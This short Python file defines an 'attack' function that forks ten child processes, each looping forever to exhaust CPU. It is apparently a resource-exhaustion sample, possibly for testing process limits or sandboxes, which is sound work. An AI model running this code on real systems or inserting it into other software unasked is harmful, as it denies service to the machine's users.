import os


def attack():
    for _ in range(10):
        if os.fork() == 0:
            while True:
                pass
